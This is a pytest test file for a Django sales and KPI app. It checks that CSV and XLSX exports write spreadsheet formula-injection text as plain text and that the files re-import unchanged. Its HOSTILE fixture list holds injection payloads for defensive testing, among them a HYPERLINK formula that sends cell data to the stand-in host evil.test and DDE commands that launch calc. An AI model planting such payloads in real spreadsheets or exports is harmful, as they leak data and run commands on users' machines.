"""Formula injection (issue 13): text a spreadsheet would run as a formula is written as text by every
export, in CSV and in XLSX, and the files still re-import unchanged."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from imports.kinds import KINDS
from imports.options import ImportOptions
from imports.writers import neutralise, restore
from kpis.models import KPI, Measurement
from kpis.services import measurement_set, target_set
from people.models import Certification, CertificationType, Program, ProgramParticipation
from sales.models import Account, Opportunity, Product
from territories.models import Rep

HOSTILE = [
    '=HYPERLINK("http://evil.test/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize(
    "text",
    [*HOSTILE, "'=1+1", "''@x", "plain", "'quoted'", "", "x=1", "=", "'"],
)
def test_neutralised_text_starts_with_no_formula_character_and_restores_exactly(text):
    written = neutralise(text)
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert restore(written) == text
    expected = "'" + text if text.lstrip("'")[:1] in {"=", "+", "-", "@", "\t", "\r"} else text
    assert written == expected


def populate(org, texts: list[str]):
    """Every kind of row, each with a hostile text (``texts``, six of them) in some column."""
    alice = Rep.objects.get(org=org, name="Alice Smith")
    villain = Rep.objects.create(org=org, name=texts[0])
    product = Product.objects.create(org=org, name=texts[1], line=texts[2], list_price=Decimal("5"))
    deal = Opportunity.objects.create(
        org=org,
        external_id=texts[3],
        rep=villain,
        account=Account.objects.create(org=org, external_id=texts[2], name=texts[2]),
        stage="won",
        close_date=date(2017, 3, 1),
        amount=Decimal("10"),
        profit=Decimal("-5"),  # a negative number is a number, not text: written as it is
    )
    deal.products.add(product)
    cert_type = CertificationType.objects.create(org=org, name=texts[0], category="product", issuer=texts[5])
    Certification.objects.create(org=org, rep=alice, type=cert_type, earned=date(2017, 1, 1))
    programme = Program.objects.create(org=org, name=texts[2], kind="training")
    ProgramParticipation.objects.create(org=org, rep=villain, program=programme, start=date(2017, 1, 1))
    nps = KPI.objects.get(org=org, slug="nps")
    measurement_set(kpi=nps, period="2017-Q1", value=Decimal("40"), rep=villain, note=texts[4])
    target_set(kpi=nps, period="2017-Q1", goal=Decimal("45"), rep=alice, reason=texts[1])
    return org


@pytest.fixture
def hostile_org(acme):
    return populate(acme, HOSTILE)


def _csv(kind, org) -> list[list[str]]:
    stream = io.StringIO()
    kind.export(org=org, target=stream, format="csv")
    return list(csv.reader(io.StringIO(stream.getvalue(), newline="")))


def _xlsx(kind, org, tmp_path):
    path = tmp_path / f"{kind.slug}.xlsx"
    kind.export(org=org, target=path)
    return [list(row) for row in load_workbook(path).active.iter_rows()]


@pytest.mark.parametrize("slug", sorted(KINDS))
def test_every_export_writes_hostile_text_as_text(hostile_org, tmp_path, slug):
    kind = KINDS[slug]
    rows = _csv(kind, hostile_org)
    cells = [cell for row in rows[1:] for cell in row]
    assert rows[0] == list(kind.columns)
    assert any(cell.startswith("'") for cell in cells), "each kind has a hostile cell"
    texts = [c for c in cells if c and not _number(c)]
    assert [c for c in texts if c[0] in "=+-@\t\r"] == []
    for text in HOSTILE:
        if "'" + text in cells:
            assert text not in cells
    book = _xlsx(kind, hostile_org, tmp_path)
    assert [c.coordinate for row in book for c in row if c.data_type == "f"] == []
    xlsx_texts = [c.value for row in book[1:] for c in row if isinstance(c.value, str)]
    assert all(c.data_type == "s" for row in book for c in row if isinstance(c.value, str))
    assert [t for t in xlsx_texts if t[0] in "=+-@\t\r"] == []
    # XML reads a carriage return back as a line feed; either way the cell is text.
    quoted = sorted(c.replace("\r", "\n") for c in texts if c.startswith("'"))
    assert sorted(t for t in xlsx_texts if t.startswith("'")) == quoted


def _number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_hostile_exports_re_import_unchanged(acme, tmp_path, suffix):
    # Leading tabs and line breaks are trimmed by every import, so they cannot survive a round trip.
    hostile_org = populate(acme, [*HOSTILE[:4], "=A1", "@A2"])
    for slug in (
        "products",
        "reps",
        "opportunities",
        "certifications",
        "programmes",
        "measurements",
        "targets",
    ):
        kind = KINDS[slug]
        path = tmp_path / f"{slug}.{suffix}"
        kind.export(org=hostile_org, target=path)
        result = kind.run(org_slug="acme", path=path, options=ImportOptions())
        assert (result.counts.created, result.counts.updated) == (0, 0), slug
    assert Rep.objects.filter(org=hostile_org, name=HOSTILE[0]).exists()
    assert Opportunity.objects.get(org=hostile_org).external_id == HOSTILE[3]
    assert Measurement.objects.get(org=hostile_org).note == "=A1"


def test_issue_13_export_reps_writes_no_formula(acme, tmp_path):
    from django.core.management import call_command

    for name in HOSTILE[:3]:
        Rep.objects.create(org=acme, name=name)
    out = io.StringIO()
    call_command("export_reps", "-", "--org", "acme", stdout=out)
    names = [row[0] for row in csv.reader(io.StringIO(out.getvalue(), newline=""))][1:]
    assert sorted(names) == sorted(["Alice Smith", "Bob Jones", *("'" + n for n in HOSTILE[:3])])
    call_command("export_reps", str(tmp_path / "reps.xlsx"), "--org", "acme", stdout=io.StringIO())
    cells = [row[0] for row in load_workbook(tmp_path / "reps.xlsx").active.iter_rows(min_row=2)]
    assert sorted((c.value, c.data_type) for c in cells) == sorted(
        [("Alice Smith", "s"), ("Bob Jones", "s"), *(("'" + n, "s") for n in HOSTILE[:3])]
    )
